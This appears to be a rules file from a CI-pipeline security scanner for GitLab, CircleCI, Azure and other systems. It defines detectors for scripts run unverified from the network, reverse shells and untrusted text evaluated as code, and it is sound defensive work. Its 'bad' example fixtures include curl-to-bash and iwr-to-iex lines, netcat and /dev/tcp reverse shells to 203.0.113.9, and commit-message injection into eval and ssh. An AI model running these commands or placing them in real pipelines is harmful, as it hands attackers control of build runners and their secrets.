"""Checks that hold for the scripts of every pipeline system but GitHub's, which has modules of its own."""

from __future__ import annotations

from ...finding import Example, Rule
from .. import ci
from ..match import Custom

PIPELINES = (
    "gitlab-ci", "circleci", "azure-pipelines", "bitbucket-pipelines", "travis", "drone", "woodpecker", "codebuild", "buildkite",
    "cloudbuild", "appveyor",
)  # fmt: skip
_CIRCLE = ".circleci/config.yml"
_SHA = "0a727065ae5a2313e8e6acf172844e8ca30c1822"


def gitlab(line: str) -> Example:
    """A GitLab job whose script is ``line``."""
    return Example(f"build:\n  script:\n    - {line}\n", ".gitlab-ci.yml")


RULES: tuple[Rule, ...] = (
    Rule(
        id="ci-unverified-script",
        family="config",
        title="a download is run unread",
        severity="high",
        tier="warn",
        cwe=494,
        why="Whoever controls the address, or the way to it, controls the job and its secrets; Codecov's uploader was changed that way for two months.",
        fix="Fetch a fixed version, check its SHA-256 and then run it; or use the system's package.",
        match=Custom(PIPELINES, ci.unread_script),
        equivalents=("poutine:unverified_script_exec", "checkov:CKV_CIRCLECIPIPELINES_7", "checkov:CKV_GITLABCI_1", "semgrep:curl-eval"),
        references=("https://about.codecov.io/security-update/",),
        bad=(
            gitlab("«curl -fsSL https://get.acme.dev | bash -s -- -y»"),
            Example(
                "jobs:\n  a:\n    steps:\n      - run:\n          command: |\n            set -e\n            «bash <(curl -s https://acme.dev/upload)»\n",
                _CIRCLE,
            ),
            Example("steps:\n  - script: «wget -qO- https://acme.dev/i.sh | sudo sh»\n", "azure-pipelines.yml"),
            Example(
                "steps:\n  - task: PowerShell@2\n    inputs:\n      targetType: inline\n      script: «iwr https://acme.dev/i.ps1 | iex»\n",
                "azure-pipelines.yml",
            ),
            Example(
                'pipelines:\n  default:\n    - step:\n        script:\n          - «eval "$(curl -sL https://acme.dev/env)"»\n',
                "bitbucket-pipelines.yml",
            ),
            Example("steps:\n  - command: «curl -s https://acme.dev/i.sh | sh»\n", ".buildkite/pipeline.yml"),
            Example(
                "steps:\n  - name: alpine\n    entrypoint: sh\n    args: ['-c', '«wget -qO- https://acme.dev/i.sh | sh»']\n",
                "cloudbuild.yaml",
            ),
        ),
        good=(
            gitlab("curl -fsSL https://acme.dev/data.json | jq .version"),
            gitlab(f"curl -fsSL https://raw.githubusercontent.com/a/b/{_SHA}/i.sh | bash"),
            gitlab("echo 'curl https://acme.dev | sh' \"$CI_JOB_ID\""),
        ),
    ),
    Rule(
        id="ci-reverse-shell",
        family="config",
        title="this script opens a shell to somebody on the network",
        severity="critical",
        tier="block",
        cwe=506,
        why="There is no build that needs it; it is how a stolen account turns a pipeline into access to the runner and its secrets.",
        fix="Find out who added it, take it out, and rotate every secret that this pipeline can read.",
        match=Custom(PIPELINES, ci.reverse_shell),
        equivalents=("checkov:CKV_CIRCLECIPIPELINES_5", "semgrep:bash_reverse_shell"),
        references=("https://attack.mitre.org/techniques/T1059/004/",),
        bad=(
            gitlab("«bash -i >& /dev/tcp/203.0.113.9/4444 0>&1»"),
            Example("jobs:\n  a:\n    steps:\n      - run: «nc -e /bin/sh 203.0.113.9 4444»\n", _CIRCLE),
        ),
        good=(gitlab('nc -z "$DB_HOST" 5432'), gitlab("timeout 1 bash -c '</dev/tcp/localhost/5432'")),
    ),
    Rule(
        id="ci-text-run-as-code",
        family="config",
        title="text that somebody outside may write is run as code",
        severity="high",
        tier="warn",
        cwe=94,
        why="Titles, messages and names of branches are free text; inside of eval, sh -c or ssh they are parsed once more, as a program.",
        fix="Hand the value over as an argument or in the environment of the inner program, and quote it there.",
        match=Custom(PIPELINES, ci.text_as_code),
        equivalents=("poutine:injection", "checkov:CKV_CIRCLECIPIPELINES_6", "checkov:CKV_GITLABCI_1"),
        references=("https://docs.gitlab.com/ci/variables/where_variables_can_be_used/", "https://cwe.mitre.org/data/definitions/94.html"),
        bad=(
            gitlab('sh -c «"echo $CI_MERGE_REQUEST_TITLE"»'),
            gitlab("eval «\"deploy --note '$CI_COMMIT_MESSAGE'\"»"),
            gitlab('docker run alpine sh -c «"echo $CI_COMMIT_BRANCH"»'),
            gitlab("|\n      ssh host <<EOF\n      «git checkout $CI_COMMIT_REF_NAME\n»      EOF"),
            Example('jobs:\n  a:\n    steps:\n      - run: ssh host «"deploy $CIRCLE_BRANCH"»\n', _CIRCLE),
        ),
        good=(
            gitlab('echo "$CI_MERGE_REQUEST_TITLE"'),
            gitlab('sh -c \'echo "$1"\' x "$CI_COMMIT_MESSAGE"'),
            gitlab('sh -c "echo $CI_PIPELINE_ID"'),
        ),
    ),
)
